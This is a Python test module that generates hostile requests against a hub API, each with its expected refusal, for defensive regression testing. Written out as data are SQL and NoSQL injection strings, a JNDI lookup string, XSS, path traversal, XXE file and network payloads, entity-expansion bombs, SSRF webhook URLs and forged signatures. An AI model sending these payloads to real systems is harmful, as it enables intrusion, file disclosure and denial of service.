"""A generated corpus of hostile requests against the hub API, each with the exact answer it must get.

`corpus(world)` builds the cases from a `World` (the device key, an unrelated key, the ids of what exists).
Every case names one request (method, path, headers, raw body bytes) and the status and stable problem
`code` the hub must answer with. The generator is deterministic (seeded), so a failure names a case that
can be re-run by its `name`.

Two families, because the hub treats them differently by design (ADR 0006):
* `corpus()`: requests that must change *nothing* anywhere - malformed or oversized bodies, wrong types,
  deep nesting, unicode tricks, forged or replayed signatures, other tenants' assets, injection strings,
  traversal, huge headers, wrong roles. They are refused at the edge.
* `signed_bad_readings()`: messages correctly signed by the device's own key whose readings are invalid
  (NaN, Infinity, huge, negative, wrong timestamps, ...). The chaincode judges these, and its verdict is a
  ledger transaction that writes no reading (so a replay gets the same answer); the test checks that.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.helpers.chaincode import DeviceKey, signed_message

JSON = {"content-type": "application/json"}
TEN_MB = 10 * 1024 * 1024

# what each bad signature looks like: none verifies with the device's registered key
INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE idempotency_record; --",
    '" OR ""="',
    "admin'--",
    "$where: '1 == 1'",
    '{"$gt": ""}',
    "%00",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\\u0000",
    "reading~ctr~2020-01~x",
    "contract~ctr-mri-001",
    "\u0000asset~mri-berlin-01",
]
UNICODE_IDS = {
    "nul": "mri-berlin-01\u0000",
    "rtl_override": "mri-berlin-\u202e10",
    "zero_width": "mri-berlin\u200b-01",
    "homoglyph_cyrillic_i": "mr\u0456-berlin-01",
    "homoglyph_fullwidth": "\uff4dri-berlin-01",
    "combining": "mri-berlin-01\u0301",
    "bom": "\ufeffmri-berlin-01",
    "newline": "mri-berlin-01\nX-Injected: 1",
}


def _has_control(text: str) -> bool:
    """The ledger refuses ids with control characters (`invalid_argument`) instead of looking them up."""
    return any(ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0 for ch in text)


@dataclass(frozen=True)
class Case:
    name: str
    method: str
    path: str
    status: int
    code: str
    token: str | None = "tok-device"
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class World:
    key: DeviceKey  # the registered device's key
    stranger: DeviceKey  # a key registered nowhere
    asset_id: str
    contract_id: str
    invoice_id: str
    open_period: str  # a period readings may still go to
    reading_ts: str  # a timestamp inside it, in the past
    good: dict[str, Any]  # a message the hub already accepted (for replays)


def _raw(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _sign_raw(key: DeviceKey, message: dict[str, Any]) -> dict[str, Any]:
    out = dict(message)
    out.pop("signature", None)
    return signed_message(key, out["readings"], device_id=out["device_id"], message_id=out["message_id"])


def _reading(world: World, n: int, **over: Any) -> dict[str, Any]:
    reading = {"id": f"h-{n}", "metric": "scan", "quantity": "1", "timestamp": world.reading_ts}
    reading.update(over)
    return reading


def _message(world: World, n: int, **over: Any) -> dict[str, Any]:
    readings = over.pop("readings", None) or [_reading(world, n)]
    msg = {"device_id": world.asset_id, "message_id": f"hostile-{n}", "readings": readings}
    msg.update(over)
    return msg


BODY_ENDPOINTS = [  # (method, path template, token): every route that reads a JSON body
    ("POST", "/v1/webhooks", "tok-provider"),
    ("POST", "/v1/usage", "tok-device"),
    ("POST", "/v1/assets", "tok-provider"),
    ("POST", "/v1/contracts", "tok-provider"),
    ("POST", "/v1/invoices/{invoice}/dispute", "tok-customer"),
    ("POST", "/v1/invoices/{invoice}/credit-notes", "tok-provider"),
    ("PUT", "/v1/contracts/{contract}/alert-rules", "tok-customer"),
    ("POST", "/v1/assets/{asset}/bookings", "tok-provider"),
]

MALFORMED = {
    "empty": b"",
    "truncated": b'{"device_id": "a",',
    "trailing_garbage": b'{"a": 1} x',
    "single_quotes": b"{'a': 1}",
    "nan_literal": b'{"quantity": NaN}',
    "infinity_literal": b'{"quantity": Infinity}',
    "neg_infinity_literal": b'{"quantity": -Infinity}',
    "comment": b'{"a": 1 /* c */}',
    "bare_word": b"undefined",
    "invalid_utf8": b'{"a": "\xff\xfe"}',
    "lone_surrogate": b'{"device_id": "\\ud800"}',
    "lone_low_surrogate": b'{"device_id": "\\udfff x"}',
    "deep_array_100k": b"[" * 100_000 + b"]" * 100_000,
    "deep_object_100k": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep_unclosed": b"[" * 100_000,
    "nul_bytes": b"\x00" * 64,
}


def _body_cases(world: World) -> Iterator[Case]:
    for method, template, token in BODY_ENDPOINTS:
        path = template.format(invoice=world.invoice_id, contract=world.contract_id, asset=world.asset_id)
        slug = path.strip("/").replace("/", "_")
        for name, body in MALFORMED.items():
            if name == "empty" and path != "/v1/usage":  # no body at all: the schema's "required" speaks
                yield Case(
                    f"malformed:{name}:{slug}", method, path, 422, "invalid_request", token, body, JSON
                )
                continue
            yield Case(f"malformed:{name}:{slug}", method, path, 400, "malformed_json", token, body, JSON)
        yield Case(
            f"oversized_declared:{slug}",
            method,
            path,
            413,
            "payload_too_large",
            token,
            b"[" + b"1," * (TEN_MB // 2) + b"1]",
            JSON,
        )
        yield Case(f"not_an_object:{slug}", method, path, 422, "invalid_request", token, b"[1, 2, 3]", JSON)
        yield Case(f"null_body:{slug}", method, path, 422, "invalid_request", token, b"null", JSON)
        yield Case(f"string_body:{slug}", method, path, 422, "invalid_request", token, b'"NaN"', JSON)


def _usage_type_cases(world: World) -> Iterator[Case]:
    """Wrong types and shapes of a usage message: refused by the schema check, before any signature."""
    variants: dict[str, dict[str, Any]] = {
        "device_id_int": {"device_id": 1},
        "device_id_null": {"device_id": None},
        "device_id_empty": {"device_id": ""},
        "device_id_huge": {"device_id": "d" * 100_000},
        "message_id_list": {"message_id": ["a"]},
        "message_id_huge": {"message_id": "m" * 5000},
        "readings_empty": {"readings": []},
        "readings_object": {"readings": {"id": "x"}},
        "readings_string": {"readings": "NaN"},
        "quantity_int": {"readings": [_reading(world, 0, quantity=1)]},
        "quantity_float": {"readings": [_reading(world, 0, quantity=1.5)]},
        "quantity_huge_int": {"readings": [_reading(world, 0, quantity=10**400)]},
        "quantity_huge_float": {"readings": [_reading(world, 0, quantity=1e308)]},
        "quantity_bool": {"readings": [_reading(world, 0, quantity=True)]},
        "quantity_too_long": {"readings": [_reading(world, 0, quantity="9" * 500)]},
        "quantity_object": {"readings": [_reading(world, 0, quantity={"$gt": 0})]},
        "timestamp_int": {"readings": [_reading(world, 0, timestamp=1_700_000_000)]},
        "reading_extra_field": {"readings": [_reading(world, 0, price="0")]},
        "reading_missing_metric": {"readings": [{"id": "x", "quantity": "1", "timestamp": "t"}]},
        "reading_null": {"readings": [None]},
        "extra_top_field": {"admin": True},
        "signature_int": {"signature": 12345},
        "signature_huge": {"signature": "A" * 100_000},
        "readings_too_many": {"readings": [_reading(world, i) for i in range(1001)]},
    }
    for name, over in variants.items():
        msg = _message(world, 0)
        msg["signature"] = "c2ln"
        msg.update(over)
        if name == "quantity_huge_int":  # beyond 64 bits: the strict JSON parser refuses the document
            yield Case(
                f"usage_type:{name}",
                "POST",
                "/v1/usage",
                400,
                "malformed_json",
                "tok-device",
                _raw(msg),
                JSON,
            )
            continue
        if name == "readings_too_many":
            yield Case(
                f"usage_type:{name}",
                "POST",
                "/v1/usage",
                413,
                "too_many_readings",
                "tok-device",
                _raw(_sign_raw(world.key, msg)),
                JSON,
            )
            continue
        yield Case(
            f"usage_type:{name}", "POST", "/v1/usage", 422, "invalid_request", "tok-device", _raw(msg), JSON
        )
    for name in ("device_id", "message_id", "readings", "signature"):
        msg = _message(world, 0)
        msg["signature"] = "c2ln"
        del msg[name]
        yield Case(
            f"usage_missing:{name}",
            "POST",
            "/v1/usage",
            422,
            "invalid_request",
            "tok-device",
            _raw(msg),
            JSON,
        )


def _signature_cases(world: World, rng: random.Random) -> Iterator[Case]:
    """Forged and replayed signatures: all refused at the edge with `bad_signature`, nothing written."""
    n = 1000
    for i in range(12):  # random bytes of plausible DER length
        msg = _message(world, n + i)
        msg["signature"] = base64.b64encode(rng.randbytes(rng.choice([8, 64, 70, 71, 72]))).decode()
        yield Case(
            f"forged:random_{i}", "POST", "/v1/usage", 400, "bad_signature", "tok-device", _raw(msg), JSON
        )
    for i, bad in enumerate(["not base64!!", "====", "AA", "\u202eAAAA", "A" * 199]):
        msg = _message(world, n + 20 + i)
        msg["signature"] = bad
        yield Case(
            f"forged:garbage_{i}", "POST", "/v1/usage", 400, "bad_signature", "tok-device", _raw(msg), JSON
        )
    for i in range(6):  # a well-formed signature by a key the hub does not know for this device
        msg = _sign_raw(world.stranger, _message(world, n + 40 + i))
        yield Case(
            f"forged:stranger_key_{i}",
            "POST",
            "/v1/usage",
            400,
            "bad_signature",
            "tok-device",
            _raw(msg),
            JSON,
        )
    # a genuine signature lifted onto a different message (new id, or a changed quantity, or extra reading)
    lifted = world.good["signature"]
    tamper = {
        "new_message_id": {"message_id": "hostile-replay-1"},
        "changed_quantity": {
            "message_id": "hostile-replay-2",
            "readings": [dict(world.good["readings"][0], quantity="999")],
        },
        "extra_reading": {
            "message_id": "hostile-replay-3",
            "readings": [*world.good["readings"], _reading(world, n + 60)],
        },
        "changed_reading_id": {
            "message_id": "hostile-replay-4",
            "readings": [dict(world.good["readings"][0], id="h-other")],
        },
    }
    for name, over in tamper.items():
        msg = {**world.good, **over, "signature": lifted}
        yield Case(
            f"replayed_signature:{name}",
            "POST",
            "/v1/usage",
            400,
            "bad_signature",
            "tok-device",
            _raw(msg),
            JSON,
        )
    # the accepted message id reused for different content: a conflict, never a second write
    changed = _sign_raw(
        world.key, {**world.good, "readings": [dict(world.good["readings"][0], quantity="7")]}
    )
    yield Case(
        "replayed_message_id:different_content",
        "POST",
        "/v1/usage",
        409,
        "message_id_conflict",
        "tok-device",
        _raw(changed),
        JSON,
    )


def _tenant_cases(world: World) -> Iterator[Case]:
    """Another org's device (its own token) sending for this org's asset: as if the asset did not exist."""
    for i in range(4):
        msg = _sign_raw(world.key, _message(world, 2000 + i))
        yield Case(
            f"other_tenant:device_{i}",
            "POST",
            "/v1/usage",
            404,
            "unknown_asset",
            "tok-other-device",
            _raw(msg),
            JSON,
        )
    reads = [
        ("GET", f"/v1/contracts/{world.contract_id}", "unknown_contract"),
        ("GET", f"/v1/contracts/{world.contract_id}/usage", "unknown_contract"),
        ("GET", f"/v1/invoices/{world.invoice_id}", "unknown_invoice"),
        ("GET", f"/v1/invoices/{world.invoice_id}/proof", "unknown_invoice"),
        ("GET", f"/v1/invoices/{world.invoice_id}/ubl", "unknown_invoice"),
        ("GET", f"/v1/assets/{world.asset_id}", "unknown_asset"),
    ]
    for token in ("tok-other-provider", "tok-other-customer"):
        for method, path, code in reads:
            if token == "tok-other-customer" and path.startswith("/v1/assets/"):  # customers read no assets
                yield Case(f"other_tenant:{token}:{path}", method, path, 403, "forbidden", token)
                continue
            yield Case(f"other_tenant:{token}:{path}", method, path, 404, code, token)
    body = _raw({"reason": "not mine"})
    yield Case(
        "other_tenant:dispute",
        "POST",
        f"/v1/invoices/{world.invoice_id}/dispute",
        404,
        "unknown_invoice",
        "tok-other-customer",
        body,
        JSON,
    )
    yield Case(
        "other_tenant:accept",
        "POST",
        f"/v1/contracts/{world.contract_id}/accept",
        404,
        "unknown_contract",
        "tok-other-customer",
    )


def _id_cases(world: World) -> Iterator[Case]:
    """Injection strings, unicode tricks and traversal in ids: unknown, never an error or a leak."""
    for i, text in enumerate(INJECTIONS + list(UNICODE_IDS.values())):
        msg = _sign_raw(world.key, _message(world, 3000 + i, device_id=text))
        status, code = (400, "invalid_argument") if _has_control(text) else (404, "unknown_asset")
        yield Case(f"device_id_trick:{i}", "POST", "/v1/usage", status, code, "tok-device", _raw(msg), JSON)
    from urllib.parse import quote, unquote

    for i, text in enumerate(INJECTIONS[:8] + list(UNICODE_IDS.values())[:4]):
        if "/" in text or "\\" in text:
            continue
        ident = quote(text, safe="")
        # Starlette decodes path parameters twice ("%2500" arrives as NUL), so judge the twice-decoded id
        bad = _has_control(unquote(text))
        yield Case(
            f"path_id:contract_{i}",
            "GET",
            f"/v1/contracts/{ident}",
            400 if bad else 404,
            "invalid_argument" if bad else "unknown_contract",
            "tok-provider",
        )
        yield Case(
            f"path_id:invoice_{i}",
            "GET",
            f"/v1/invoices/{ident}",
            400 if bad else 404,
            "invalid_argument" if bad else "unknown_invoice",
            "tok-auditor",
        )
    for i, path in enumerate(
        [
            "/v1/contracts/..%2F..%2F..%2Fetc%2Fpasswd",
            "/v1/invoices/..%2f..%2fdata%2fhub.sqlite",
            "/v1/assets/%2e%2e%2f%2e%2e%2fledger",
            "/v1/invoices/%2E%2E%5C%2E%2E%5Cwin.ini",
        ]
    ):
        # %2F is decoded before routing, so these never reach a handler (and no handler touches files)
        code = "unknown_invoice" if "%5C" in path else "not_found"
        yield Case(f"traversal:{i}", "GET", path, 404, code, "tok-provider")
    for i, path in enumerate(
        [
            "/v1/../../etc/passwd",
            "/v1/usage/../../etc/passwd",
            "/etc/passwd",
            "/v1/contracts/x/../../../etc/passwd",
            "/portal/static/..%2F..%2Fconfig.py",
        ]
    ):
        yield Case(f"traversal_route:{i}", "GET", path, 404, "not_found", "tok-provider")
    yield Case(
        "asset_id_injection",
        "POST",
        "/v1/assets",
        422,
        "invalid_request",
        "tok-provider",
        _raw({"id": "x' OR 1=1 --", "description": "", "public_key": world.key.public_pem}),
        JSON,
    )
    yield Case(
        "asset_id_unicode",
        "POST",
        "/v1/assets",
        422,
        "invalid_request",
        "tok-provider",
        _raw({"id": UNICODE_IDS["homoglyph_cyrillic_i"], "public_key": world.key.public_pem}),
        JSON,
    )
    yield Case(
        "contract_id_traversal",
        "POST",
        "/v1/contracts",
        422,
        "invalid_request",
        "tok-provider",
        _raw({"id": "../../etc", "provider": "ProviderMSP", "customer": "CustomerMSP"}),
        JSON,
    )
    for name, period in (("month_13", "2026-13"), ("injection", "2026-01' OR 1=1"), ("nul", "2026-01%00")):
        yield Case(
            f"usage_period:{name}",
            "GET",
            f"/v1/contracts/{world.contract_id}/usage?period={period}",
            422,
            "invalid_request",
            "tok-provider",
        )
        yield Case(
            f"close_period:{name}",
            "POST",
            f"/v1/contracts/{world.contract_id}/periods/{period.replace(' ', '%20')}/close",
            422,
            "invalid_request",
            "tok-operator",
        )


def _header_cases(world: World) -> Iterator[Case]:
    huge = "A" * 100_000
    msg = _raw(_sign_raw(world.key, _message(world, 4000)))
    yield Case(
        "header:huge_token",
        "POST",
        "/v1/usage",
        401,
        "invalid_token",
        None,
        msg,
        {**JSON, "Authorization": "Bearer " + huge},
    )
    yield Case(
        "header:huge_token_get",
        "GET",
        "/v1/invoices",
        401,
        "invalid_token",
        None,
        None,
        {"Authorization": "Bearer " + huge},
    )
    yield Case(
        "header:huge_other_no_auth",
        "GET",
        "/v1/invoices",
        401,
        "unauthenticated",
        None,
        None,
        {"X-Padding": huge},
    )
    yield Case(
        "header:token_with_nul",
        "GET",
        "/v1/invoices",
        401,
        "invalid_token",
        None,
        None,
        {"Authorization": "Bearer tok-provider%00"},
    )
    yield Case(
        "header:basic_scheme",
        "GET",
        "/v1/invoices",
        401,
        "unauthenticated",
        None,
        None,
        {"Authorization": "Basic dG9rLXByb3ZpZGVyOg=="},
    )
    yield Case(
        "header:prefix_of_token",
        "GET",
        "/v1/invoices",
        401,
        "invalid_token",
        None,
        None,
        {"Authorization": "Bearer tok-prov"},
    )
    yield Case(
        "header:token_plus_suffix",
        "GET",
        "/v1/invoices",
        401,
        "invalid_token",
        None,
        None,
        {"Authorization": "Bearer tok-provider-x"},
    )
    yield Case("header:expired", "GET", "/v1/invoices", 401, "token_expired", "tok-expired")
    yield Case(
        "header:lying_content_length",
        "POST",
        "/v1/usage",
        413,
        "payload_too_large",
        "tok-device",
        msg,
        {**JSON, "Content-Length": str(TEN_MB)},
    )


def _role_cases(world: World) -> Iterator[Case]:
    """A device token trying to act as a provider, customer or operator (the full matrix is elsewhere)."""
    for method, path in (
        ("POST", "/v1/assets"),
        ("POST", "/v1/contracts"),
        ("POST", f"/v1/contracts/{world.contract_id}/accept"),
        ("POST", f"/v1/contracts/{world.contract_id}/periods/{world.open_period}/close"),
        ("POST", f"/v1/invoices/{world.invoice_id}/dispute"),
        ("GET", "/v1/audit/verify"),
    ):
        body = _raw({"reason": "x"}) if path.endswith("dispute") else None
        yield Case(f"role:device:{method}:{path}", method, path, 403, "forbidden", "tok-device", body, JSON)


def _bank_cases(world: World) -> Iterator[Case]:
    """Bank statements and SEPA mandates (ADR 0041): every bad file or mandate is refused whole."""
    from chaincode import creditor_ref
    from tests.helpers.camt import E, camt

    xml = {"content-type": "application/xml"}
    good = camt([E("HOSTILE-1", "10.00", rf=creditor_ref.for_invoice(world.invoice_id))])
    files = {
        "truncated": (good[: len(good) // 2], 400, "malformed_xml"),
        "xxe_file": (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                     b"<Document>&x;</Document>", 400, "xml_dtd_forbidden"),
        "xxe_network": (b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd"><d/>', 400,
                        "xml_dtd_forbidden"),
        "entity_expansion": (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"a" * 100 + b'">'
                             + b'<!ENTITY b "' + b"&a;" * 100 + b'">]><d>&b;&b;&b;</d>', 400,
                             "xml_dtd_forbidden"),
        "utf16_hiding_a_dtd": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d><d/>'.encode("utf-16"),
                               400, "xml_dtd_forbidden"),
        "wrong_namespace": (good.replace(b"camt.054.001.08", b"camt.054.001.99"), 422,
                            "unsupported_statement"),
        "no_namespace": (good.replace(b' xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"', b""), 422,
                         "unsupported_statement"),
        "wrong_currency_code": (good.replace(b'Ccy="EUR"', b'Ccy="eur"'), 422, "unknown_currency"),
        "too_many_decimals": (good.replace(b">10.00<", b">10.0001<"), 422, "invalid_amount"),
        "exponent_amount": (good.replace(b">10.00<", b">1E1<"), 422, "invalid_amount"),
        "currency_not_the_accounts": (good.replace(b"<Ccy>EUR</Ccy>", b"<Ccy>CHF</Ccy>"), 422,
                                      "currency_mismatch"),
        "ten_mb": (b"<Document>" + b" " * TEN_MB + b"</Document>", 413, "payload_too_large"),
    }
    for name, (body, status, code) in files.items():
        yield Case(f"bank_statement:{name}", "POST", "/v1/bank-statements", status, code, "tok-operator",
                   body, xml)
    mandate = {"debtor_org": "CustomerMSP", "debtor_name": "Klinikum Mitte", "iban": "DE02120300000000202051",
               "mandate_id": "MNDT-1", "signed_on": "2026-10-01", "scheme": "CORE"}
    bad_mandates = {
        "iban_check_digits": ({"iban": "DE02120300000000202052"}, 422, "invalid_iban"),
        "iban_injection": ({"iban": INJECTIONS[1]}, 422, "invalid_iban"),
        "bic": ({"bic": "ABC"}, 422, "invalid_bic"),
        "debtor_other_org": ({"debtor_org": "OtherMSP"}, 409, "mandate_debtor_mismatch"),
        "scheme": ({"scheme": "B2C"}, 422, "invalid_scheme"),
    }
    for name, (change, status, code) in bad_mandates.items():
        yield Case(f"sepa_mandate:{name}", "PUT", f"/v1/contracts/{world.contract_id}/mandate", status, code,
                   "tok-provider", _raw({**mandate, **change}), JSON)


def _amendment_cases(world: World) -> Iterator[Case]:
    """Amendments and previews (ADR 0046/0047): each refused by role, visibility, the edge or the ledger's
    rules, before anything is written (pending and overlapping ones: test_api_amendments.py)."""
    c = world.contract_id
    path = f"/v1/contracts/{c}/amendments"
    future = "2099-01-01T00:00:00Z"
    plan = {"charges": [{"id": "platform", "model": "flat", "amount": "600.00"}]}

    def body(**over: Any) -> bytes:
        return _raw({"id": "am-hostile", "effective_from": future, "plan": plan, **over})

    bad: dict[str, tuple[str, str, int, str, str, bytes | None]] = {
        "from_the_customer": ("POST", path, 403, "forbidden", "tok-customer", body()),
        "from_a_device": ("POST", path, 403, "forbidden", "tok-device", body()),
        "from_an_auditor": ("POST", path, 403, "forbidden", "tok-auditor", body()),
        "unknown_contract": ("POST", "/v1/contracts/no-such-contract/amendments", 404, "unknown_contract",
                             "tok-provider", body()),
        "back_in_time": ("POST", path, 409, "amendment_in_past", "tok-provider",
                         body(effective_from="2020-01-01T00:00:00Z")),
        "not_an_instant": ("POST", path, 400, "invalid_argument", "tok-provider",
                           body(effective_from="next tuesday")),
        "changes_currency": ("POST", path, 400, "amendment_changes_fixed_terms", "tok-provider",
                             body(plan={**plan, "currency": "USD"})),
        "changes_customer": ("POST", path, 400, "amendment_changes_fixed_terms", "tok-provider",
                             body(plan={**plan, "customer": "OtherMSP"})),
        "changes_provider": ("POST", path, 400, "amendment_changes_fixed_terms", "tok-provider",
                             body(plan={**plan, "provider": "OtherMSP"})),
        "changes_assets": ("POST", path, 400, "amendment_changes_fixed_terms", "tok-provider",
                           body(plan={**plan, "assets": ["other-asset"]})),
        "negative_fee": ("POST", path, 400, "invalid_plan", "tok-provider",
                         body(plan={"charges": [{"id": "p", "model": "flat", "amount": "-5.00"}]})),
        "plan_and_end": ("POST", path, 400, "invalid_argument", "tok-provider", body(end="2099-01-01")),
        "end_not_a_date": ("POST", path, 400, "invalid_argument", "tok-provider",
                           _raw({"id": "am-hostile", "end": "01/01/2099"})),
        "unknown_field": ("POST", path, 422, "invalid_request", "tok-provider", body(sneaky=True)),
        "injection_id": ("POST", path, 422, "invalid_request", "tok-provider", body(id=INJECTIONS[1])),
        "accept_unknown": ("POST", f"{path}/no-such/accept", 404, "unknown_amendment", "tok-customer", None),
        "accept_by_provider": ("POST", f"{path}/no-such/accept", 403, "forbidden", "tok-provider", None),
        "reject_by_provider": ("POST", f"{path}/no-such/reject", 403, "forbidden", "tok-provider", None),
        "reject_unknown": ("POST", f"{path}/no-such/reject", 404, "unknown_amendment", "tok-customer", None),
        "get_unknown": ("GET", f"{path}/no-such", 404, "unknown_amendment", "tok-customer", None),
        "history_unknown_contract": ("GET", "/v1/contracts/no-such-contract/history", 404, "unknown_contract",
                                     "tok-customer", None),
        "preview_bad_period": ("GET", f"/v1/contracts/{c}/periods/2026-13/preview", 422, "invalid_request",
                               "tok-customer", None),
        "preview_outside_term": ("GET", f"/v1/contracts/{c}/periods/1999-01/preview", 400, "invalid_period",
                                 "tok-customer", None),
        "preview_by_device": ("GET", f"/v1/contracts/{c}/periods/{world.open_period}/preview", 403,
                              "forbidden", "tok-device", None),
    }
    for name, (method, url, status, code, token, raw) in bad.items():
        yield Case(f"amendment:{name}", method, url, status, code, token, raw, JSON)


def _money_cases(world: World) -> Iterator[Case]:
    """Contract money terms and prepaid refunds (ADR 0051): refused by the chaincode before anything is
    written, or by the hub's role check."""
    from tests.helpers.chaincode import sample_contract

    bad_terms = {
        "threshold_decimals": {"billing_threshold": "1000.001"},
        "threshold_zero": {"billing_threshold": "0"},
        "threshold_number": {"billing_threshold": 1000},
        "threshold_exponent": {"billing_threshold": "1E3"},
        "threshold_injection": {"billing_threshold": INJECTIONS[0]},
        "prepaid_not_object": {"prepaid": "500"},
        "prepaid_negative": {"prepaid": {"low_balance": "-5.00"}},
        "prepaid_unknown_field": {"prepaid": {"low_balance": "5.00", "auto": True}},
        "prepaid_no_low_balance": {"prepaid": {"top_up_amount": "5.00"}},
    }
    for name, terms in bad_terms.items():
        body = sample_contract(id=f"ctr-hostile-{name.replace('_', '-')}", assets=[world.asset_id], **terms)
        yield Case(f"money_terms:{name}", "POST", "/v1/contracts", 400, "invalid_terms", "tok-provider",
                   _raw(body), JSON)
    refund = f"/v1/contracts/{world.contract_id}/prepaid/refund"
    yield Case("prepaid_refund:not_ended", "POST", refund, 409, "contract_not_ended", "tok-operator", None,
               JSON)
    yield Case("prepaid_refund:customer", "POST", refund, 403, "forbidden", "tok-customer", None, JSON)
    yield Case("prepaid_refund:other_provider", "POST", refund, 404, "unknown_contract", "tok-other-provider",
               None, JSON)


def _booking_cases(world: World) -> Iterator[Case]:
    """Bookings (ADR 0049) on the world's asset, which is not shared: every one refused, nothing written."""
    path = f"/v1/assets/{world.asset_id}/bookings"
    good = {"id": "bk-h", "contract_id": world.contract_id, "start": "2026-11-02T00:00:00+01:00",
            "end": "2026-11-03T00:00:00+01:00"}
    cases: list[tuple[str, str, dict[str, Any] | None, str, int, str]] = [
        ("not_shared", path, good, "tok-provider", 409, "asset_not_shared"),
        ("not_shared_customer", path, good, "tok-customer", 409, "asset_not_shared"),
        ("bad_start", path, {**good, "start": "yesterday"}, "tok-provider", 400, "invalid_argument"),
        ("unknown_asset", "/v1/assets/no-such-asset/bookings", good, "tok-provider", 404, "unknown_asset"),
        ("unknown_contract", path, {**good, "contract_id": "ctr-nope"}, "tok-provider", 404,
         "unknown_contract"),
        ("other_customer", path, good, "tok-other-customer", 404, "unknown_contract"),
        ("other_provider", path, good, "tok-other-provider", 404, "unknown_contract"),
        ("extra_field", path, {**good, "status": "ACTIVE"}, "tok-provider", 422, "invalid_request"),
        ("missing_end", path, {k: v for k, v in good.items() if k != "end"}, "tok-provider", 422,
         "invalid_request"),
        ("device_role", path, good, "tok-device", 403, "forbidden"),
        ("auditor_role", path, good, "tok-auditor", 403, "forbidden"),
        ("operator_role", path, good, "tok-operator", 403, "forbidden"),
        ("accept_unknown", f"{path}/bk-none/accept", None, "tok-customer", 404, "unknown_booking"),
        ("accept_device", f"{path}/bk-none/accept", None, "tok-device", 403, "forbidden"),
        ("read_unknown", f"{path}/bk-none", None, "tok-customer", 404, "unknown_booking"),
    ]
    for name, target, body, token, status, code in cases:
        method = "GET" if name.startswith("read_") else "POST"
        raw = None if body is None else _raw(body)
        yield Case(f"booking:{name}", method, target, status, code, token, raw, JSON if raw else {})


def corpus(world: World, seed: int = 9) -> list[Case]:
    rng = random.Random(seed)
    cases = [
        *_webhook_cases(),  # lifecycle webhook subscriptions (ADR 0053)
        *_body_cases(world),
        *_usage_type_cases(world),
        *_signature_cases(world, rng),
        *_tenant_cases(world),
        *_id_cases(world),
        *_header_cases(world),
        *_role_cases(world),
        *_bank_cases(world),
        *_amendment_cases(world),
        *_money_cases(world),
        *_booking_cases(world),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


# --- signed by the device's own key, readings invalid: the chaincode's verdict -----------------------------


def signed_bad_readings(world: World) -> list[tuple[str, dict[str, Any], str]]:
    """(name, signed message, expected code). Each message is genuine; its readings are not acceptable."""
    bad: dict[str, tuple[dict[str, Any], str]] = {
        "quantity_NaN": ({"quantity": "NaN"}, "invalid_quantity"),
        "quantity_nan_lower": ({"quantity": "nan"}, "invalid_quantity"),
        "quantity_Infinity": ({"quantity": "Infinity"}, "invalid_quantity"),
        "quantity_neg_Infinity": ({"quantity": "-Infinity"}, "invalid_quantity"),
        "quantity_sNaN": ({"quantity": "sNaN"}, "invalid_quantity"),
        "quantity_exponent": ({"quantity": "1e999999"}, "invalid_quantity"),
        "quantity_above_1e12": ({"quantity": "1000000000001"}, "invalid_quantity"),
        "quantity_13_decimals": ({"quantity": "0.0000000000001"}, "invalid_quantity"),
        "quantity_negative": ({"quantity": "-1"}, "invalid_quantity"),
        "quantity_hex": ({"quantity": "0x10"}, "invalid_quantity"),
        "quantity_spaces": ({"quantity": " 1 "}, "invalid_quantity"),
        "quantity_arabic_digits": ({"quantity": "\u0661"}, "invalid_quantity"),
        "quantity_fullwidth": ({"quantity": "\uff11"}, "invalid_quantity"),
        "timestamp_garbage": ({"timestamp": "yesterday"}, "invalid_timestamp"),
        "timestamp_no_offset": ({"timestamp": world.reading_ts[:19]}, "invalid_timestamp"),
        "timestamp_month_13": ({"timestamp": "2026-13-02T10:00:00Z"}, "invalid_timestamp"),
        "timestamp_before_contract": ({"timestamp": "1999-01-01T00:00:00Z"}, "timestamp_outside_contract"),
        "timestamp_far_future": ({"timestamp": "2999-01-01T00:00:00Z"}, "timestamp_in_future"),
        "metric_unknown": ({"metric": "free_money"}, "unknown_metric"),
        "metric_injection": ({"metric": "scan' OR 1=1"}, "unknown_metric"),
        "metric_homoglyph": ({"metric": "sc\u0430n"}, "unknown_metric"),
    }
    out = []
    for i, (name, (over, code)) in enumerate(bad.items()):
        msg = signed_message(
            world.key,
            [_reading(world, 5000 + i, **over)],
            device_id=world.asset_id,
            message_id=f"hostile-signed-{i}",
        )
        out.append((name, msg, code))
    return out


def _webhook_cases() -> Iterator[Case]:
    """Lifecycle webhook subscriptions (ADR 0053): refused whole, nothing stored."""
    good = {"url": "https://hooks.example.com/ledgerhub", "secret": "s" * 16}
    bad: dict[str, tuple[dict[str, Any], int, str]] = {
        "unknown_event": ({**good, "events": ["invoice.eaten"]}, 422, "unknown_event_type"),
        "no_events": ({**good, "events": []}, 422, "unknown_event_type"),
        "alert_is_not_a_lifecycle_event": ({**good, "events": ["alert.raised"]}, 422, "unknown_event_type"),
        "loopback_url": ({**good, "url": "http://127.0.0.1:8080/h"}, 400, "webhook_url_forbidden"),
        "metadata_url": ({**good, "url": "https://169.254.169.254/latest"}, 400, "webhook_url_forbidden"),
        "short_secret": ({**good, "secret": "s"}, 422, "invalid_request"),
        "no_secret": ({"url": good["url"]}, 422, "invalid_request"),
        "unknown_field": ({**good, "filter": "*"}, 422, "invalid_request"),
        "javascript_url": ({**good, "url": "javascript:alert(1)"}, 422, "invalid_request"),
    }
    for name, (body, status, code) in bad.items():
        yield Case(f"webhook:{name}", "POST", "/v1/webhooks", status, code, "tok-provider",
                   json.dumps(body).encode(), {"content-type": "application/json"})
